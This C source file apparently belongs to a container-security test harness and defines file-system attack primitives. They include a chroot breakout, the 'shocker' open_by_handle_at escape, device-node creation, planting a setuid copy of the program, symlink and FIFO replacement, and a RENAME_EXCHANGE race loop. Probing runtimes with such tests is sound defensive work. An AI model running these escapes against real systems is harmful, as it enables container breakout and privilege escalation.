/* SPDX-License-Identifier: Apache-2.0 */
/* attacks_files.c - files of the machine: /proc and /sys, devices, links, handles, what the runtime reads and writes for a container. */
#include "attacks.h"
#include <limits.h>
#include <stdbool.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <time.h>

#define ATTACK(name) static int name(int argc, char **argv)
#define UNUSED ((void)argc, (void)argv)

ATTACK(show)
{
	return argc == 2 ? shows(argv[1]) : EINVAL;
}

ATTACK(open_to_write)
{
	return argc == 2 ? opens_for_writing(argv[1]) : EINVAL;
}

/* PATH gets what it has already: nothing changes where it can be written. */
ATTACK(write_back)
{
	char text[4096];
	ssize_t length;
	int result, fd;

	if (argc != 2)
		return EINVAL;
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	length = read(fd, text, sizeof(text));
	close(fd);
	if (length < 0)
		return errno;
	fd = open(argv[1], O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	result = outcome(write(fd, text, (size_t)length));
	close(fd);
	return result;
}

/* Says how many bytes can be read. */
ATTACK(count)
{
	char text[4096];
	ssize_t length;
	int fd;

	if (argc != 2)
		return EINVAL;
	fd = open(argv[1], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		return errno;
	length = read(fd, text, sizeof(text));
	close(fd);
	if (length >= 0)
		printf("%zd bytes\n", length);
	return outcome(length);
}

/* A node for a device of the machine, opened: PATH b|c MAJOR MINOR. */
ATTACK(device)
{
	int result, fd;

	if (argc != 5)
		return EINVAL;
	unlink(argv[1]);
	result = outcome(mknod(argv[1], (*argv[2] == 'b' ? S_IFBLK : S_IFCHR) | 0666,
			       makedev((unsigned int)number_of(argv[3]), (unsigned int)number_of(argv[4]))));
	if (result) {
		printf("mknod\n");
		return result;
	}
	fd = open(argv[1], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	result = outcome(fd);
	if (fd >= 0)
		close(fd);
	unlink(argv[1]);
	printf("open\n");
	return result;
}

/* The classic way out of a chroot: into a deeper one with the working directory left behind, then up; PATH is looked for from there. */
ATTACK(chroot_out)
{
	if (argc != 2)
		return EINVAL;
	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail"))
		return errno;
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return errno;
	if (chroot("."))
		return errno;
	return shows(argv[1]);
}

/* A file by its handle, from whatever directory of its file system can be had: MOUNT TYPE HEX (the "shocker"). */
ATTACK(by_handle)
{
	union {
		struct file_handle handle;
		char bytes[sizeof(struct file_handle) + 128];
	} file = {.bytes = {0}};
	int directory, fd;
	char path[64];

	if (argc != 4)
		return EINVAL;
	file.handle.handle_type = (int)number_of(argv[2]);
	file.handle.handle_bytes = (unsigned int)(strlen(argv[3]) / 2);
	for (unsigned int i = 0; i < file.handle.handle_bytes; i++) {
		unsigned int byte;

		if (sscanf(argv[3] + 2 * i, "%2x", &byte) != 1)
			return EINVAL;
		file.handle.f_handle[i] = (unsigned char)byte;
	}
	directory = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (directory < 0)
		return errno;
	fd = open_by_handle_at(directory, &file.handle, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return shows(path);
}

/* PATH becomes a link with this TEXT, or a FIFO when there is none. */
ATTACK(replace)
{
	char fresh[PATH_MAX];

	if (argc < 2 || argc > 3 || snprintf(fresh, sizeof(fresh), "%s.new", argv[1]) >= (int)sizeof(fresh))
		return EINVAL;
	unlink(fresh);
	if (argc == 3 ? symlink(argv[2], fresh) : mkfifo(fresh, 0666))
		return errno;
	if (rename(fresh, argv[1])) {
		int result = errno;

		unlink(fresh);
		return result;
	}
	return 0;
}

ATTACK(make_link)
{
	return argc == 3 ? outcome(symlink(argv[2], argv[1])) : EINVAL;
}

ATTACK(make_fifo)
{
	return argc == 2 ? outcome(mkfifo(argv[1], 0666)) : EINVAL;
}

ATTACK(move)
{
	return argc == 3 ? outcome(rename(argv[1], argv[2])) : EINVAL;
}

ATTACK(remove_it)
{
	return argc == 2 ? outcome(unlink(argv[1])) : EINVAL;
}

/* PATH SIZE: a file with a hole. */
ATTACK(blow_up)
{
	return argc == 3 ? outcome(truncate(argv[1], number_of(argv[2]))) : EINVAL;
}

ATTACK(change_mode)
{
	return argc == 3 ? outcome(chmod(argv[1], (mode_t)number_of(argv[2]))) : EINVAL;
}

ATTACK(change_owner)
{
	return argc == 3 ? outcome(chown(argv[1], (uid_t)number_of(argv[2]), (gid_t)-1)) : EINVAL;
}

/* A program of PATH that whoever runs it runs as its owner. */
ATTACK(plant_suid)
{
	char buffer[65536];
	ssize_t length;
	int from, to;

	if (argc != 2)
		return EINVAL;
	from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	to = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (from < 0 || to < 0)
		return errno;
	while ((length = read(from, buffer, sizeof(buffer))) > 0)
		if (write(to, buffer, (size_t)length) != length)
			return errno;
	return outcome(fchmod(to, 04755));
}

ATTACK(make_executable)
{
	int fd;

	if (argc != 3)
		return EINVAL;
	fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0)
		return errno;
	if (write(fd, argv[2], strlen(argv[2])) < 0)
		return errno;
	return outcome(fchmod(fd, 0755));
}

/* A SECONDS B C: two names exchanged as fast as can be, for that long, then as they were; the number of times is said. */
ATTACK(swap)
{
	struct timespec now;
	time_t end;
	long count = 0;

	if (argc != 4)
		return EINVAL;
	clock_gettime(CLOCK_MONOTONIC, &now);
	end = now.tv_sec + number_of(argv[1]);
	do {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */))
			return errno;
		count++;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end || count % 2);
	printf("%ld times\n", count);
	return 0;
}

const struct attack file_attacks[] = {
    {"blow_up", blow_up},
    {"by_handle", by_handle},
    {"change_mode", change_mode},
    {"change_owner", change_owner},
    {"chroot_out", chroot_out},
    {"count", count},
    {"device", device},
    {"make_executable", make_executable},
    {"make_fifo", make_fifo},
    {"make_link", make_link},
    {"move", move},
    {"open_to_write", open_to_write},
    {"plant_suid", plant_suid},
    {"remove", remove_it},
    {"replace", replace},
    {"show", show},
    {"swap", swap},
    {"write_back", write_back},
    {NULL, NULL},
};
